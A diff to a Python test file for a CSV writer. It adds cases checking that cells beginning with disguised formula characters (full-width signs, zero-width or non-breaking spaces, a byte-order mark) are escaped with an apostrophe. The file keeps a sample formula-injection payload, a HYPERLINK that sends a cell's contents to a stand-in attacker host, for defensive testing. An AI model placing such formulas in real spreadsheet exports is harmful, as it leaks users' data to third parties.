@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from govchain.csvout import FORMULA_STARTS, cell, table
+from govchain.csvout import cell, starts_a_formula, table
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"open")'
 
@@ -31,6 +31,21 @@ def read_back(text: str) -> list[list[str]]:
         ("living subsidy case", "living subsidy case"),
         ("低保申请", "低保申请"),
         ("a = b", "a = b"),  # only the first character counts
+        (
+            "\uff1dHYPERLINK(1)",
+            "'\uff1dHYPERLINK(1)",
+        ),  # full-width, as a Chinese input method types it
+        ("\ufe661+1", "'\ufe661+1"),
+        ("\uff0b1", "'\uff0b1"),
+        ("\uff0d1", "'\uff0d1"),
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        (" =1+1", "' =1+1"),  # an importer may trim the space
+        ("\u3000=1+1", "'\u3000=1+1"),
+        ("\xa0=1+1", "'\xa0=1+1"),
+        ("\u200b=1+1", "'\u200b=1+1"),  # invisible, then a formula
+        ("\ufeff=1+1", "'\ufeff=1+1"),
+        ("\u2060=1", "'\u2060=1"),
+        ("  低保", "  低保"),
         ("red \x1b[31mALERT\x1b[0m", "red \\x1b[31mALERT\\x1b[0m"),
         ("right\u202etfel", "right\\u202etfel"),
         ("two\nlines", "two\nlines"),
@@ -63,7 +78,7 @@ def test_no_cell_of_any_row_starts_a_formula_or_holds_a_control(values: list[obj
     assert len(rows) == 2 and len(rows[1]) == len(values)
     for value, written in zip(values, rows[1], strict=True):
         if isinstance(value, str):
-            assert not written.startswith(FORMULA_STARTS)
+            assert written.startswith("'") or not starts_a_formula(written)
             assert not any((ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in written)
             # what a reader sees is the text, escaped where it had to be: nothing is dropped
             assert len(written) >= len(value)
